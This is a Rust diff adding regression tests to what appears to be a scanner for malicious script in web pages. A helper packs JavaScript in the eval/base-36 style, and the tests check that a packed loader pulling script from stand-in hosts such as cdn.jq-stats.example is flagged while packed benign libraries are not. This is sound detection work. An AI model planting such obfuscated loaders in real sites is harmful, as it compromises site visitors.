@@ -244,3 +244,69 @@ fn a_page_of_script_tags_never_closed_is_read_once() {
     let closed = format!("{}{hidden}</script>", "<script>var a = 1;</script>\n".repeat(200));
     assert_eq!(in_page(closed.as_bytes()).map(|i| i.at), closed.rfind("<script>"));
 }
+
+/// `code` packed the way Dean Edwards' packer does it (base 36): each word replaced by its
+/// number in a list of words.
+fn packed(code: &str) -> String {
+    let mut words: Vec<String> = Vec::new();
+    let mut out = String::new();
+    let mut word = String::new();
+    let radix36 = |mut n: usize| -> String {
+        let digits = b"0123456789abcdefghijklmnopqrstuvwxyz";
+        let mut s = Vec::new();
+        loop {
+            s.push(digits[n % 36]);
+            n /= 36;
+            if n == 0 {
+                break;
+            }
+        }
+        s.reverse();
+        String::from_utf8(s).unwrap()
+    };
+    let mut flush = |word: &mut String, out: &mut String| {
+        if !word.is_empty() {
+            let n = words.iter().position(|w| w == word).unwrap_or_else(|| {
+                words.push(word.clone());
+                words.len() - 1
+            });
+            out.push_str(&radix36(n));
+            word.clear();
+        }
+    };
+    for c in code.chars() {
+        if c.is_ascii_alphanumeric() || c == '_' {
+            word.push(c);
+        } else {
+            flush(&mut word, &mut out);
+            out.push(if c == '\'' { '"' } else { c });
+        }
+    }
+    flush(&mut word, &mut out);
+    format!(
+        "eval(function(p,a,c,k,e,d){{e=function(c){{return c.toString(36)}};while(c--){{if(k[c]){{p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}}}return p}}('{out}',36,{},'{}'.split('|'),0,{{}}))",
+        words.len(),
+        words.join("|")
+    )
+}
+
+#[test]
+fn a_packed_script_that_only_loads_another_sites_script_is_found() {
+    // Regression: a planted `jquery.js` of one packed line that adds a script element from
+    // another site; nothing in it is an address until it is unpacked.
+    let loader = "var s=document.createElement('script');s.async=true;s.src='https://cdn.jq-stats.example/j.js?v=3';var r=document.getElementsByTagName('script')[0];r.parentNode.insertBefore(s,r);";
+    assert_eq!(found(&packed(loader)), Some(Danger::High));
+    let tag = "document.write('<script src=\"//ads.example.net/a.js\"></script>');";
+    assert_eq!(found(&packed(tag)), Some(Danger::High));
+}
+
+#[test]
+fn a_packed_library_is_not_a_finding() {
+    // Libraries were shipped packed too: what they unpack to makes elements and reads the page,
+    // but loads no other site's script.
+    let easing = "jQuery.easing.swing=function(x,t,b,c,d){return c*(t/=d)*t+b};var d=document.createElement('div');d.className='fx';document.body.appendChild(d);window.location.hash='top';";
+    assert_eq!(found(&packed(easing)), None);
+    // A CMS that ships a big provider's snippet packed (Baidu's link submission).
+    let push = "var bp=document.createElement('script');bp.src='https://zz.bdstatic.com/linksubmit/push.js';var s=document.getElementsByTagName('script')[0];s.parentNode.insertBefore(bp,s);";
+    assert_eq!(found(&packed(push)), None);
+}
